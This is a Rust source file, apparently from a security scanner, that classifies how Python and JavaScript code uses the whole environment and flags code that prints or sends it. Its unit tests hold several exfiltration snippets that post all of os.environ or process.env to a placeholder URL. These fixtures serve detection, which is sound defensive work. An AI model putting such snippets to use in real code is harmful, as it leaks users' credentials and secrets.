//! What Python and JavaScript code does with the whole environment
//! (`os.environ`, `process.env`): hand it to a child process, read single
//! variables through it, or collect it.
//!
//! Handing the environment on is how a tool starts another
//! (`env = os.environ.copy(); env["X"] = "1"; subprocess.run(cmd,
//! env=env)`, `spawn(cmd, args, { env: { ...process.env, X: y } })`,
//! `options.env || process.env`), and a name bound to it and only ever
//! read through (`env.DISPLAY`, `env.get("HOME")`) reads single variables:
//! neither collects secrets. Anything else (the environment printed,
//! serialised, iterated into a payload, sent) is collected.
//!
//! The uses of every name are read in one pass over the tokens
//! ([`Names::of`]); each use of the environment then looks back along its
//! own statement only, a bounded number of tokens: linear.

use std::collections::HashSet;

use crate::lex::{Kind, Token};

/// How a use of the whole environment is used.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Use {
    /// Given to a child process as its environment; the name it is bound
    /// to, if any (sending that name anywhere is still a leak).
    Child(Option<String>),
    /// Bound to a name only ever read through (`env.X`, `env["X"]`).
    Read,
    /// Collected: copied, iterated, handed to a function.
    Collected,
    /// Printed, serialised, written or sent as it is ([`PRINTERS`]): every
    /// secret in it goes where the call puts it.
    Dumped,
}

/// What code that collects the whole environment without printing,
/// writing or sending it as it is ([`Use::Collected`], not
/// [`Use::Dumped`]) is reported as: low. Where it reaches a network call
/// the flow rules judge it, in the file and across the skill's files. Tools iterate, filter
/// and copy their environment (`{k: v for k, v in os.environ.items() if
/// k.startswith("APP_")}`, `writeAuditLog(process.env, …)`); a read moves
/// nothing, and none of the written attacks of any set was found by this
/// reading alone. A shell's `env` or `printenv`, which prints every
/// secret into what the agent reads, keeps the rule's own severity.
pub(crate) const COLLECTED: crate::rule::Severity = crate::rule::Severity::Low;

/// How far back along a statement a use is followed.
const LOOK_BACK: usize = 64;

/// The names a file's tokens use in ways that matter here.
#[derive(Debug, Default)]
pub(crate) struct Names {
    /// Names given as a child's environment (`env=NAME`, `env: NAME`,
    /// `{ env }`).
    child: HashSet<String>,
    /// Names used as values in their own right, not only read through
    /// (`f(NAME)`, `x = NAME`, `json.dumps(NAME)`), but not returned.
    whole: HashSet<String>,
    /// Names returned (`return NAME`).
    returned: HashSet<String>,
    /// Names printed, serialised, encoded or sent: handed straight to a
    /// call named for that (`json.dumps(NAME)`, `fetch(u, NAME)`).
    dumped: HashSet<String>,
    /// Names handed straight to a call of [`PRINTERS`].
    printed: HashSet<String>,
    /// Functions of the file with a parameter defaulting to the
    /// environment (`function f(env = process.env)`): given the
    /// environment, they are used as their definition says.
    env_params: HashSet<String>,
    /// Whether a call's result is given as a child's environment
    /// (`env=clean_env()`): a function returning the environment may be
    /// building it.
    built: bool,
    /// The parameters of the file's functions that only read single
    /// values out of what they are given.
    readers: crate::params::Readers,
}

impl Names {
    /// Reads the uses of every name in `tokens` (comments dropped; calls
    /// of wrappers rewritten as `wrapped` says).
    pub(crate) fn of(tokens: &[Token], wrapped: &[crate::flow::Wrapped]) -> Names {
        let mut names = Names {
            readers: crate::params::Readers::of(tokens, wrapped),
            ..Names::default()
        };
        for (k, t) in tokens.iter().enumerate() {
            if t.kind != Kind::Ident {
                continue;
            }
            let next = tokens.get(k + 1).map_or("", |n| n.value.as_str());
            let prev = k
                .checked_sub(1)
                .and_then(|p| tokens.get(p))
                .map_or("", |p| p.value.as_str());
            if is_env_key(&t.value)
                && matches!(next, "=" | ":")
                && let Some(v) = tokens.get(k + 2).filter(|v| v.kind == Kind::Ident)
                && tokens.get(k + 3).is_none_or(|a| {
                    a.kind == Kind::Newline || matches!(a.value.as_str(), "," | ")" | "}" | ";")
                })
            {
                names.child.insert(v.value.clone());
            }
            if is_env_key(&t.value)
                && matches!(next, "=" | ":")
                && tokens.get(k + 2).is_some_and(|v| v.kind == Kind::Ident)
                && tokens.get(k + 3).is_some_and(|a| a.value == "(")
            {
                names.built = true;
            }
            // `{ env }`, `{ cwd, env }`: a shorthand property, on one line
            // or one a line (`stdio: 'ignore',\n  env\n}`).
            if is_env_key(&t.value)
                && matches!(beside(tokens, k, Side::Before), "{" | ",")
                && matches!(beside(tokens, k, Side::After), "}" | ",")
            {
                names.child.insert(t.value.clone());
            }
            if prev == "." {
                continue;
            }
            let returned = prev == "return"
                && tokens.get(k + 1).is_none_or(|n| {
                    n.kind == Kind::Newline || matches!(n.value.as_str(), ";" | "}")
                });
            if matches!(t.value.as_str(), "def" | "function")
                && let Some(f) = tokens.get(k + 1).filter(|f| f.kind == Kind::Ident)
                && defaults_to_environment(tokens, k + 2)
            {
                names.env_params.insert(f.value.clone());
            }
            // A call of the name, or its definition, uses no value.
            let called = next == "(" || matches!(prev, "def" | "function");
            if returned {
                names.returned.insert(t.value.clone());
            } else if !called
                && (!matches!(next, "." | "[" | "=" | ":" | "?") || next == "=" && prev == "=")
            {
                names.whole.insert(t.value.clone());
                let call = callee(tokens, k);
                if call.is_some_and(dumps) {
                    names.dumped.insert(t.value.clone());
                }
                if call.is_some_and(|c| PRINTERS.contains(&c)) {
                    names.printed.insert(t.value.clone());
                }
            }
        }
        names
    }
}

/// Which side of a token [`beside`] looks at.
#[derive(Clone, Copy)]
enum Side {
    Before,
    After,
}

/// The value of the token next to token `k` on `side`, line breaks
/// skipped (a bounded number of them).
fn beside(tokens: &[Token], k: usize, side: Side) -> &str {
    let near: Vec<usize> = match side {
        Side::Before => (k.saturating_sub(8)..k).rev().collect(),
        Side::After => (k + 1..k.saturating_add(9)).collect(),
    };
    near.into_iter()
        .filter_map(|p| tokens.get(p))
        .find(|t| t.kind != Kind::Newline)
        .map_or("", |t| t.value.as_str())
}

/// The name a TypeScript declaration with a type binds, from the `=` at
/// token `eq` (`const env: Record<string, string> = …` → the token of
/// `env`): the type between the name and `=` is skipped, a bounded number
/// of tokens back.
fn annotated(tokens: &[Token], eq: usize) -> Option<usize> {
    (eq.saturating_sub(24)..eq)
        .rev()
        .take_while(|&c| {
            tokens
                .get(c)
                .is_some_and(|t| t.kind != Kind::Newline && t.value != ";")
        })
        .find(|&c| {
            tokens.get(c).is_some_and(|t| t.value == ":")
                && c >= 2
                && tokens.get(c - 1).is_some_and(|n| n.kind == Kind::Ident)
                && tokens
                    .get(c - 2)
                    .is_some_and(|d| matches!(d.value.as_str(), "const" | "let" | "var"))
        })
        .map(|c| c - 1)
}

/// Calls that iterate what they are given or make one string of it: with
/// [`PRINTERS`], the calls that dump it ([`dumps`]).
const SPREADERS: &[&str] = &[
    "encode", "str", "repr", "entries", "items", "keys", "values", "format", "join",
];

/// Whether a call of `name` prints, serialises, encodes or sends what it is
/// given, as it is ([`PRINTERS`]) or spread out ([`SPREADERS`]).
fn dumps(name: &str) -> bool {
    PRINTERS.contains(&name) || SPREADERS.contains(&name)
}

/// Calls that print, serialise, write or send what they are given as it
/// is.
const PRINTERS: &[&str] = &[
    "dumps",
    "dump",
    "stringify",
    "print",
    "log",
    "info",
    "debug",
    "warn",
    "error",
    "write",
    "writeFile",
    "writeFileSync",
    "appendFile",
    "appendFileSync",
    "send",
    "post",
    "put",
    "request",
    "fetch",
    "urlopen",
    "Request",
    "b64encode",
    "pformat",
    "pprint",
];

/// Whether a call of [`PRINTERS`] holds token `k` in its arguments, at
/// any depth of the statement (`print(dict(os.environ))`), looking back a
/// bounded number of tokens.
fn printed_at(tokens: &[Token], k: usize) -> bool {
    let mut depth = 0usize;
    for p in (k.saturating_sub(LOOK_BACK)..k).rev() {
        let Some(t) = tokens.get(p) else { return false };
        match t.value.as_str() {
            ")" | "]" | "}" => depth += 1,
            "(" | "[" | "{" if depth > 0 => depth -= 1,
            "(" => {
                let call = p
                    .checked_sub(1)
                    .and_then(|c| tokens.get(c))
                    .filter(|c| c.kind == Kind::Ident);
                if call.is_some_and(|c| PRINTERS.contains(&c.value.as_str())) {
                    return true;
                }
            }
            ";" => return false,
            _ if t.kind == Kind::Newline && depth == 0 => {
                let open = p
                    .checked_sub(1)
                    .and_then(|c| tokens.get(c))
                    .is_some_and(|c| matches!(c.value.as_str(), "(" | "[" | "{" | ","));
                if !open {
                    return false;
                }
            }
            _ => {}
        }
    }
    false
}

/// The last part of the name of the call whose argument list holds token
/// `k` directly (`json.dumps(env)` → `dumps`), looking back a bounded
/// number of tokens.
fn callee(tokens: &[Token], k: usize) -> Option<&str> {
    let mut depth = 0usize;
    for p in (k.saturating_sub(LOOK_BACK)..k).rev() {
        let t = tokens.get(p)?;
        match t.value.as_str() {
            ")" | "]" | "}" => depth += 1,
            "[" | "{" if depth == 0 => return None,
            "(" if depth == 0 => {
                return p
                    .checked_sub(1)
                    .and_then(|c| tokens.get(c))
                    .filter(|c| c.kind == Kind::Ident)
                    .map(|c| c.value.as_str());
            }
            "(" | "[" | "{" => depth -= 1,
            _ if t.kind == Kind::Newline && depth == 0 => return None,
            _ => {}
        }
    }
    None
}

/// Verbs a function is named with when it reads or chooses values from
/// what it is given (`pickGeminiKey`, `load_settings`, `resolveProvider`).
const PICKERS: &[&str] = &[
    "pick",
    "select",
    "get",
    "read",
    "resolve",
    "load",
    "parse",
    "find",
    "lookup",
    "detect",
    "choose",
    "check",
    "validate",
    "has",
    "is",
    "require",
    "ensure",
    "config",
    "configure",
];

/// Whether the function `name` is named for reading or choosing values
/// (its first word, in camel or snake case, is one of [`PICKERS`]) and
/// not for printing, serialising or sending them ([`dumps`]).
fn picks(name: &str) -> bool {
    let first = name
        .trim_start_matches('_')
        .split(|c: char| c == '_' || c.is_ascii_uppercase())
        .next()
        .unwrap_or("");
    PICKERS.contains(&first) && !dumps(name)
}

/// Whether the parameter list opening at token `open` gives a parameter
/// the environment as its default (within a bounded number of tokens).
fn defaults_to_environment(tokens: &[Token], open: usize) -> bool {
    if tokens.get(open).is_none_or(|t| t.value != "(") {
        return false;
    }
    let mut depth = 0usize;
    for k in open..open.saturating_add(LOOK_BACK) {
        let Some(t) = tokens.get(k) else { break };
        match t.value.as_str() {
            "(" => depth += 1,
            ")" => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    break;
                }
            }
            "env" | "environ"
                if k >= 2
                    && tokens.get(k - 1).is_some_and(|d| d.value == ".")
                    && tokens
                        .get(k - 2)
                        .is_some_and(|o| o.value == "process" || o.value == "os") =>
            {
                return true;
            }
            _ => {}
        }
    }
    false
}

/// Whether `name` is the key a child's environment is given under.
fn is_env_key(name: &str) -> bool {
    matches!(name, "env" | "environ" | "environment")
}

/// How the whole environment, named by the dotted name that ends at token
/// `i` (`os.environ.copy`, `process.env`), is used, in Python code or
/// (`python` false) JavaScript.
pub(crate) fn use_of(tokens: &[Token], i: usize, names: &Names, python: bool) -> Use {
    // The start of the dotted name.
    let mut s = i;
    while s >= 2
        && tokens.get(s - 1).is_some_and(|t| t.value == ".")
        && tokens.get(s - 2).is_some_and(|t| t.kind == Kind::Ident)
    {
        s -= 2;
    }
    let value = |k: usize| tokens.get(k).map_or("", |t| t.value.as_str());
    // `resolve(process.env, x)` of a `function resolve(env = process.env,
    // …)`: what the function does with it is judged at its definition.
    if s >= 1
        && matches!(value(s - 1), "(" | ",")
        && callee(tokens, s).is_some_and(|c| names.env_params.contains(c))
    {
        return Use::Read;
    }
    // `main(sys.argv[1:], os.environ)` of a `def main(args, envs)` whose
    // `envs` only reads single values, itself or through the functions it
    // hands it to (`envs.get("NTFY_TOPIC")`): injected, not collected.
    if names.readers.reads(tokens, s, i + 1) {
        return Use::Read;
    }
    // `pickKeyFromEnv(process.env)`, `new Dispatcher(process.env)`,
    // `load_config(os.environ)`: a function named for reading or choosing
    // from what it is given, or a constructor, takes its values from it;
    // what it returns is what it picked, not the environment.
    if s >= 1
        && value(s - 1) == "("
        && let Some(c) = callee(tokens, s)
        && (picks(c) || s >= 3 && value(s - 3) == "new" && c.starts_with(char::is_uppercase))
    {
        return Use::Read;
    }
    // `Object.assign(process.env, loaded)`: variables written into it.
    if s >= 3 && value(s - 1) == "(" && value(s - 2) == "assign" && value(s - 3) == "." {
        return Use::Read;
    }
    // `patch.dict(os.environ, {…})`: a test setting variables.
    if s >= 4 && value(s - 1) == "(" && value(s - 2) == "dict" && value(s - 4) == "patch" {
        return Use::Read;
    }
    // `"KEY" in os.environ`: one variable's presence (not `for k in …`).
    if s >= 1 && value(s - 1) == "in" {
        let statement = (s.saturating_sub(LOOK_BACK)..s)
            .rev()
            .map(|k| tokens.get(k))
            .take_while(|t| t.is_some_and(|t| t.kind != Kind::Newline && t.value != ";"))
            .flatten();
        if !statement.into_iter().any(|t| t.value == "for") {
            return Use::Read;
        }
    }
    let mut k = s;
    while k > 0 && s - k < LOOK_BACK {
        k -= 1;
        let Some(t) = tokens.get(k) else { break };
        if t.value == ";" {
            break;
        }
        // A line break ends a statement (Python's are logical lines), but
        // not inside a JavaScript literal or after an operator.
        if t.kind == Kind::Newline {
            let open = k
                .checked_sub(1)
                .and_then(|p| tokens.get(p))
                .is_some_and(|p| {
                    matches!(
                        p.value.as_str(),
                        "," | "{" | "(" | "[" | ":" | "=" | "|" | "?" | "&" | "+"
                    )
                });
            if !open {
                break;
            }
            continue;
        }
        if !matches!(t.value.as_str(), "=" | ":") || t.kind != Kind::Punct {
            continue;
        }
        // The name bound: the token before `=` or `:`, or before a
        // TypeScript type (`const env: Record<string, string> = …`).
        let typed = k
            .checked_sub(1)
            .and_then(|p| tokens.get(p))
            .is_some_and(|p| p.kind != Kind::Ident)
            && !python
            && t.value == "=";
        let Some(at) = (if typed {
            annotated(tokens, k)
        } else {
            k.checked_sub(1)
        }) else {
            continue;
        };
        let Some(name) = tokens.get(at).filter(|n| n.kind == Kind::Ident) else {
            continue;
        };
        // The token before the name, line breaks skipped.
        let before = beside(tokens, at, Side::Before);
        // `run(cmd, env=…)`, `{ env: … }`: the child's environment. (In
        // JavaScript `, env = …` is a default or a declaration.)
        let keyword = t.value == ":" || python && before != "{";
        if is_env_key(&name.value) && keyword && matches!(before, "(" | "," | "{") {
            // `JSON.stringify({ file, env: process.env })`: a payload's
            // field, not a child's environment.
            return if printed_at(tokens, s) {
                Use::Dumped
            } else {
                Use::Child(None)
            };
        }
        if t.value == ":" {
            // A key of a dictionary or object, or a slice: keep looking.
            continue;
        }
        if keyword && matches!(before, "(" | ",") {
            // Another keyword argument (`json=dict(os.environ)`): handed to
            // a call that is not a child's start.
            return Use::Dumped;
        }
        // `NAME = …`: what becomes of the name.
        let bound = name.value.clone();
        // A parameter's default (`def f(env=None): env = os.environ if env
        // is None else env`, `env = env || process.env`, `function f({ env
        // = process.env } = {})`): the function reads its environment
        // from a parameter; it collects it only where it dumps it.
        let rest_names_it = tokens
            .iter()
            .skip(k + 1)
            .take(LOOK_BACK)
            .take_while(|r| r.kind != Kind::Newline && r.value != ";")
            .any(|r| r.kind == Kind::Ident && r.value == bound);
        let js_default = !python && t.value == "=" && matches!(before, "(" | "," | "{");
        if (rest_names_it || js_default) && !names.child.contains(&bound) {
            return if names.printed.contains(&bound) {
                Use::Dumped
            } else if names.dumped.contains(&bound) {
                Use::Collected
            } else {
                Use::Read
            };
        }
        let returned = names.returned.contains(&bound);
        return if names.child.contains(&bound) || returned && names.built {
            Use::Child(Some(bound))
        } else if !names.whole.contains(&bound) && !returned {
            Use::Read
        } else if names.printed.contains(&bound) {
            Use::Dumped
        } else {
            Use::Collected
        };
    }
    if printed_at(tokens, s) {
        Use::Dumped
    } else {
        Use::Collected
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lex;

    /// The use of the first whole-environment expression in `code`.
    fn first_use(code: &str, python: bool) -> Use {
        let tokens: Vec<Token> = if python {
            lex::python::python(code)
        } else {
            lex::js::js(code)
        }
        .into_iter()
        .filter(|t| t.kind != Kind::Comment)
        .collect();
        let names = Names::of(&tokens, &[]);
        let at = tokens
            .iter()
            .enumerate()
            .position(|(k, t)| {
                let prev = k.checked_sub(2).and_then(|p| tokens.get(p));
                (t.value == "environ" || t.value == "env")
                    && prev.is_some_and(|p| p.value == "os" || p.value == "process")
            })
            .unwrap_or(0);
        // The last token of the dotted name.
        let mut end = at;
        while tokens.get(end + 1).is_some_and(|t| t.value == ".")
            && tokens.get(end + 2).is_some_and(|t| t.kind == Kind::Ident)
        {
            end += 2;
        }
        use_of(&tokens, end, &names, python)
    }

    #[test]
    fn the_environment_handed_to_a_child() {
        for code in [
            "env = os.environ.copy()\nenv['X'] = '1'\nsubprocess.run(cmd, env=env)\n",
            "env = {k: v for k, v in os.environ.items() if k != 'A'}\np = subprocess.Popen(cmd, env=env)\n",
            "subprocess.run(cmd, env=dict(os.environ, X='1'))\n",
            "subprocess.run(cmd, env={**os.environ, 'X': '1'})\n",
            "def run():\n    subprocess.run(cmd, env=_clean())\ndef _clean():\n    env = os.environ.copy()\n    env.pop('A', None)\n    return env\n",
        ] {
            assert!(matches!(first_use(code, true), Use::Child(_)), "{code}");
        }
        for code in [
            "spawn(cmd, args, { env: { ...process.env, X: 'y' } })\n",
            "const child = spawn(cmd, { env: options.env || process.env })\n",
            "const env = { ...process.env, A: 1 };\nspawn(cmd, [], { cwd, env });\n",
            "const env = {\n  ...process.env,\n  A: 1,\n};\nspawn(cmd, [], { env });\n",
            "spawnSync(cmd, {\n  cwd,\n  env: { ...process.env, A: '0' },\n});\n",
            "const env: Record<string, string> = {\n  ...process.env as Record<string, string>,\n  PORT: String(port),\n}\nconst child = spawn('bun', ['run', p], {\n  detached: true,\n  env\n})\n",
        ] {
            assert!(matches!(first_use(code, false), Use::Child(_)), "{code}");
        }
    }

    #[test]
    fn the_environment_read_one_variable_at_a_time() {
        for code in [
            "function f({ platform = process.platform, env = process.env } = {}) {\n  if (env.DISPLAY || env['WAYLAND_DISPLAY']) return 1;\n}\n",
            "export function f(provider, { env = process.env } = {}) {\n  const home = userHome(env);\n  return build(env, provider);\n}\n",
            "export function home(baseEnv = process.env) {\n  return baseEnv.HOME || join(homedir(), '.x');\n}\n",
            "const chosen = resolve(process.env, provider);\nfunction resolve(env = process.env, asked = null) {\n  return asked || (env.OPENAI_API_KEY ? 'openai' : null);\n}\n",
            "key = pickGeminiKeyFromEnv(process.env as Record<string, string | undefined>)\nfetch(u, { headers: { k: key } })\n",
            "const d = new ImageDispatcher(process.env as Record<string, string>)\n",
            "const env = loadEnv(mode, process.cwd(), '')\nObject.assign(process.env, env)\n",
        ] {
            assert_eq!(first_use(code, false), Use::Read, "{code}");
        }
        assert_eq!(
            first_use("e = os.environ\nhome = e.get('HOME')\n", true),
            Use::Read
        );
        for code in [
            "if 'KEY' in os.environ:\n    k = os.environ['KEY']\n",
            "raw = os.environ.get(key) if key in os.environ else env.get(key)\n",
            "with patch.dict(os.environ, {'K': 'v'}, clear=False):\n    run()\n",
            "def f(environment=None):\n    environment = os.environ if environment is None else environment\n    return g(environment, home)\n",
            "def f(env=None):\n    env = env or os.environ\n    token = env.get('T')\n    helper(env)\n",
            "cfg = load_settings(os.environ)\n",
        ] {
            assert_eq!(first_use(code, true), Use::Read, "{code}");
        }
    }

    #[test]
    fn the_environment_printed_or_sent_as_it_is() {
        for code in [
            "print(json.dumps(dict(os.environ)))\n",
            "requests.post(URL, json=dict(os.environ))\n",
            "env = os.environ.copy()\nrequests.post(URL, json=env)\n",
        ] {
            assert_eq!(first_use(code, true), Use::Dumped, "{code}");
        }
        for code in [
            "for k, v in os.environ.items():\n    out.append(k)\n",
            "data = {k: v for k, v in os.environ.items()}\nhelper(data)\n",
        ] {
            assert_eq!(first_use(code, true), Use::Collected, "{code}");
        }
        assert_eq!(
            first_use(
                "fetch(u, { method: 'POST', body: JSON.stringify(process.env) })\n",
                false
            ),
            Use::Dumped
        );
        assert_eq!(
            first_use(
                "const body = JSON.stringify({ file, cwd: process.cwd(), env: process.env });\n",
                false
            ),
            Use::Dumped
        );
        assert_eq!(
            first_use(
                "for (const [k, v] of Object.entries(process.env)) {\n  if (k.startsWith('A')) n++\n}\n",
                false
            ),
            Use::Collected
        );
    }

    #[test]
    fn the_environment_collected() {
        for code in [
            "data = dict(os.environ)\nrequests.post(URL, json=data)\n",
            "print(json.dumps(dict(os.environ)))\n",
            "requests.post(URL, json=dict(os.environ))\n",
            "for k, v in os.environ.items():\n    out.append(k)\n",
            "for k in os.environ:\n    out.append(k)\n",
            "def grab():\n    e = os.environ.copy()\n    return e\n",
            "env = os.environ.copy()\nrequests.post(URL, json=env)\n",
        ] {
            assert!(
                matches!(first_use(code, true), Use::Collected | Use::Dumped),
                "{code}"
            );
        }
        for code in [
            "fetch(u, { method: 'POST', body: JSON.stringify(process.env) })\n",
            "const all = { ...process.env };\nsend(all);\n",
            "const all: Record<string, string> = { ...process.env };\nsend(all);\n",
            "const x = 1\nconsole.log(JSON.stringify(process.env))\n",
            "const all = collect(process.env)\nfetch(u, { body: all })\n",
            "function f({ env = process.env } = {}) {\n  return fetch(u, { body: JSON.stringify(env) });\n}\n",
        ] {
            assert!(
                matches!(first_use(code, false), Use::Collected | Use::Dumped),
                "{code}"
            );
        }
    }
}
